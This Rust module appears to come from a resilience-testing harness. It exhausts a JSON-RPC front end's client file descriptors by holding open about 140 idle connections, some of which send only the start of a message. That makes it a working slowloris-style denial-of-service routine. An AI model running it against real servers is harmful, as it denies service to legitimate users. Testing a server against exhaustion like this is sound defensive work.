//! Opens idle connections and connections with an incomplete message, to use up the file descriptors that a front
//! end has for clients.

use super::client::Door;
use crate::lock;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
use std::time::Duration;

/// Number of connections opened to one front end: slightly more than its limit of client connections.
const CONNECTIONS: usize = 140;
/// Interval between two connection attempts.
const CONNECT_INTERVAL: Duration = Duration::from_millis(8);

/// Opens connections to a front end, and replaces closed connections, until `is_over` is set. Every third connection
/// sends only the beginning of a message.
pub fn run(door: &Door, is_over: &AtomicBool) {
    let mut connections: Vec<TcpStream> = Vec::new();
    let mut number = 0;
    while !is_over.load(Relaxed) {
        std::thread::sleep(CONNECT_INTERVAL);
        connections.retain(is_open);
        let Some(target) = *lock(&door.target) else { continue };
        if connections.len() >= CONNECTIONS {
            continue;
        }
        let Ok(mut stream) = TcpStream::connect_timeout(&target.address, Duration::from_millis(200)) else {
            continue;
        };
        number += 1;
        if number % 3 == 0 {
            // The front end may have closed the connection already; the next `is_open` check detects that.
            let _ = stream.write_all(b"Content-Length: 200\r\n\r\n{\"jsonrpc\"");
        }
        if stream.set_nonblocking(true).is_ok() {
            connections.push(stream);
        }
    }
}

fn is_open(stream: &TcpStream) -> bool {
    let mut stream = stream;
    match stream.read(&mut [0; 256]) {
        Ok(0) => false,
        Ok(_) => true,
        Err(e) => e.kind() == ErrorKind::WouldBlock,
    }
}
